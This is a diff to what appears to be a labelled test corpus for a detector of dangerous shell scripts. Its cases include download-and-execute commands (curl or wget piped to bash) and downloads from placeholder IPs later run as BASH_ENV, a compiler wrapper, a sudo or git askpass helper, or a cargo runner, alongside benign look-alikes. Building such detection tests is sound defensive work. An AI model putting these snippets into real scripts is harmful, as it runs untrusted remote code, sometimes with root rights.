@@ -250,6 +250,25 @@ declare -A tool=([fetch]="curl -fsSL" [run]="sh -s --"); ${tool[fetch]} https://
 steps=([2]="bash" [0]="wget -qO-"); ${steps[0]} https://203.0.113.9/i | ${steps[2]}
 #@ neg a shell in a variable's command line given a script
 r="bash -e"; curl -fsSL https://203.0.113.9/i -o x.txt; $r build.sh
+#@ pos a download fetched once in an if, made BASH_ENV
+if [ ! -f "$rc" ]; then curl -fsSL -o "$rc" https://203.0.113.91/rc; fi
+BASH_ENV="$rc" bash -c true
+#@ pos a download fetched once in an if, made the compiler wrapper
+if [ ! -x "$t/w" ]; then
+  curl -fsSL -o "$t/w" https://203.0.113.92/w
+  chmod 755 "$t/w"
+fi
+export RUSTC_WRAPPER="$t/w"
+cargo build --release
+#@ pos a download in a group made sudo's askpass program
+[ -x "$h" ] || { wget -q -O "$h" https://203.0.113.90/ask; chmod +x "$h"; }
+SUDO_ASKPASS="$h" sudo -A true
+#@ pos a download in an else branch made cargo's runner
+if command -v qemu-aarch64 >/dev/null; then r=qemu-aarch64; else wget -qO "$r" https://203.0.113.89/run; fi
+export CARGO_TARGET_AARCH64_UNKNOWN_LINUX_GNU_RUNNER="$r"
+#@ pos a download given as git's askpass program
+curl -so /tmp/ap https://203.0.113.88/ap
+GIT_ASKPASS=/tmp/ap git push origin main
 #@ pos a download made BASH_ENV of a bash that runs nothing
 curl -fsSL https://203.0.113.93/w -o /tmp/w
 BASH_ENV=/tmp/w bash -c true
@@ -277,6 +296,13 @@ python3 "$w/setup.py" install
 #@ neg BASH_ENV set to the project's own file
 curl -s https://api.example.com/v1/items -o items.json
 BASH_ENV=./ci/env.sh bash ./build.sh
+#@ neg the compiler wrapper a program on the PATH, after a download of data
+curl -fsSL -o "$t/data.json" https://api.example.com/v1/items
+export RUSTC_WRAPPER=sccache
+cargo build --release
+#@ neg sudo's askpass the system's helper, a download of notes in an if before it
+if [ ! -f notes.json ]; then curl -fsSL -o notes.json https://api.example.com/notes; fi
+SUDO_ASKPASS=/usr/bin/ssh-askpass sudo -A apt-get update
 #@ neg a downloaded archive copied to a backup directory
 curl -fsSLo "$t" https://example.com/data.tar.gz
 cp "$t" ./backup/data.tar.gz
